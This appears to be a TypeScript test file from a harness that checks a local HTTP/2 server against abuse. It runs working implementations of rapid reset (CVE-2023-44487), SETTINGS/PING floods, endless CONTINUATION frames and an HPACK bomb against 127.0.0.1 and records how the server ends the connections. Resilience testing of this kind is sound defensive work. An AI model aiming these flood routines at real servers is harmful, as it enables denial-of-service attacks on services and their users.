import { expect } from "vitest";
import { hold } from "../clients.js";
import { abuseCase, caseTimeoutMs, holdMs, runCase, scale, tally } from "../harness.js";
import {
  continuationFrame,
  ErrorCode,
  Flag,
  flood,
  h2ErrorName,
  headersFrame,
  indexed,
  literal,
  literalIndexed,
  pingFrame,
  rawH2,
  requestBlock,
  rstStreamFrame,
  settingsFrame,
  type RawH2,
} from "../h2-wire.js";

/** What became of a raw connection, for the report. */
function ending(conn: RawH2): string {
  if (conn.goaway !== undefined) return `GOAWAY ${h2ErrorName(conn.goaway)}`;
  return conn.closed ? "closed" : "open";
}

/**
 * Case 4, HTTP/2 rapid reset (CVE-2023-44487): on a few connections, open a
 * stream (GET /stats) and reset it at once, tens of thousands of times. Each
 * costs the client two small frames; the server may start the request's work
 * before it sees the reset.
 */
export function rapidReset(): void {
  abuseCase(
    "4. HTTP/2 rapid reset: HEADERS then RST_STREAM, tens of thousands of times on a few connections",
    { timeout: caseTimeoutMs(60, 600) },
    async (server) => {
      const connections = 4;
      const perConnection = scale(10_000, 100_000);
      const pairsPerWrite = 100;
      return runCase("4 http2-rapid-reset", server, async (attackers) => {
        const conns = attackers.open(connections, (address) => rawH2({ port: server.port, localAddress: address }));
        const started = performance.now();
        const sent = await Promise.all(
          conns.map(async (conn) => {
            await conn.ready;
            const block = requestBlock("GET", "/stats", `127.0.0.1:${server.port}`);
            let streamId = 1;
            return flood(conn, perConnection, pairsPerWrite, () => {
              const frames: Buffer[] = [];
              for (let i = 0; i < pairsPerWrite; i++, streamId += 2) frames.push(headersFrame(streamId, block), rstStreamFrame(streamId, ErrorCode.cancel));
              return Buffer.concat(frames);
            });
          }),
        );
        const sendingMs = Math.round(performance.now() - started);
        await hold(holdMs(2, 10));
        return {
          connections,
          resetsSent: sent.reduce((a, b) => a + b, 0),
          sendingMs,
          responsesBeforeReset: conns.reduce((sum, conn) => sum + conn.responses, 0),
          connectionEnds: tally(conns.map(ending)),
          serverClosedAttacker: conns.some((conn) => conn.closed || conn.goaway !== undefined) ? "yes" : "no",
        };
      });
    },
  );
}

/**
 * SETTINGS and PING floods: each frame obliges the server to answer with an
 * ACK; an attacker that never reads makes those answers pile up in the
 * server (nghttp2's outbound queue, the socket's write buffer).
 */
export function settingsAndPingFlood(): void {
  abuseCase(
    "SETTINGS and PING floods from clients that never read the ACKs",
    { timeout: caseTimeoutMs(60, 600) },
    async (server) => {
      const connections = 4;
      const framesPerConnection = scale(100_000, 1_000_000);
      const perWrite = 1000;
      return runCase("settings-ping-flood", server, async (attackers) => {
        const conns = attackers.open(connections, (address) => rawH2({ port: server.port, localAddress: address, neverRead: true }));
        const sent = await Promise.all(
          conns.map(async (conn, c) => {
            await conn.ready;
            // Half the connections ping, half change settings (the same value, again and again).
            const unit = c % 2 === 0 ? pingFrame(Buffer.from("abusive!")) : settingsFrame([[4, 65_535]]);
            const batch = Buffer.concat(Array.from({ length: perWrite }, () => unit));
            return flood(conn, framesPerConnection, perWrite, () => batch);
          }),
        );
        await hold(holdMs(2, 10));
        // Read what the server sent meanwhile: did it give up on us (GOAWAY), or is it still queueing ACKs?
        for (const conn of conns) conn.socket.resume();
        await hold(500);
        return {
          connections,
          pingsSent: sent.filter((_, c) => c % 2 === 0).reduce((a, b) => a + b, 0),
          settingsSent: sent.filter((_, c) => c % 2 === 1).reduce((a, b) => a + b, 0),
          connectionEnds: tally(conns.map(ending)),
          bytesQueuedForUs: conns.reduce((sum, conn) => sum + conn.bytesReceived, 0),
        };
      });
    },
  );
}

/**
 * Header floods: a header block that never ends (HEADERS without END_HEADERS,
 * then CONTINUATION frames without end, CVE-2024-27316's kind), and an HPACK
 * bomb: one 4,000-byte header put in the dynamic table, then referenced with
 * one byte each, thousands of times per request. Both want the server to hold
 * or expand far more than its 16 KiB header limit.
 */
export function headerFloods(): void {
  abuseCase(
    "header floods: endless CONTINUATION frames and an HPACK bomb",
    { timeout: caseTimeoutMs(60, 600) },
    async (server) => {
      const connections = 4;
      const continuationMiB = scale(64, 512);
      const bombRequests = scale(2_000, 20_000);
      return runCase("header-floods", server, async (attackers) => {
        const authority = `127.0.0.1:${server.port}`;
        const conns = attackers.open(connections, (address) => rawH2({ port: server.port, localAddress: address }));
        const continuationSent: number[] = [];
        const bombsSent: number[] = [];
        await Promise.all(
          conns.map(async (conn, c) => {
            await conn.ready;
            if (c % 2 === 0) {
              // CONTINUATION flood: 16 KiB frames of fresh, never-indexed headers, never ending.
              await conn.write(headersFrame(1, requestBlock("GET", "/health", authority), Flag.endStream));
              const fields = Buffer.concat(Array.from({ length: 160 }, (_, i) => literal(`x-flood-${c}-${i}`, "v".repeat(80))));
              const batch = Buffer.concat(Array.from({ length: 16 }, () => continuationFrame(1, fields.subarray(0, 16_000))));
              continuationSent[c] = await flood(conn, continuationMiB * 1024 * 1024, batch.length, () => batch);
            } else {
              // HPACK bomb: 4,000 bytes into the dynamic table (index 62) once, then 4,000 one-byte references per request.
              let streamId = 1;
              await conn.write(headersFrame(streamId, Buffer.concat([requestBlock("GET", "/health", authority), literalIndexed("x-bomb", "b".repeat(4_000))])));
              streamId += 2;
              const references = Buffer.alloc(4_000, indexed(62)[0]!);
              const block = Buffer.concat([requestBlock("GET", "/health", authority), references]);
              bombsSent[c] = await flood(conn, bombRequests, 50, () => {
                const frames: Buffer[] = [];
                for (let i = 0; i < 50; i++, streamId += 2) frames.push(headersFrame(streamId, block));
                return Buffer.concat(frames);
              });
            }
          }),
        );
        await hold(holdMs(2, 10));
        const flooders = conns.filter((_, c) => c % 2 === 0);
        const bombers = conns.filter((_, c) => c % 2 === 1);
        return {
          continuationMiBSent: Math.round(continuationSent.reduce((a, b) => a + (b ?? 0), 0) / (1024 * 1024)),
          continuationConnectionEnds: tally(flooders.map(ending)),
          bombRequestsSent: bombsSent.reduce((a, b) => a + (b ?? 0), 0),
          bombWouldExpandToMiB: Math.round((bombsSent.reduce((a, b) => a + (b ?? 0), 0) * 4_000 * 4_000) / (1024 * 1024)),
          bombConnectionEnds: tally(bombers.map(ending)),
          bombResetCodes: Object.fromEntries(bombers.flatMap((conn) => [...conn.resets].map(([code, n]) => [h2ErrorName(code), n]))),
          bombAnswered: bombers.reduce((sum, conn) => sum + conn.responses, 0),
          floodsStopped: conns.every((conn) => conn.closed || conn.goaway !== undefined) ? "yes" : "no",
        };
      });
    },
    // An endless header block must end the connection: nothing else can stop it.
    (facts) => expect.soft(facts.continuationConnectionEnds, "CONTINUATION floods ended by the server").not.toHaveProperty("open"),
  );
}
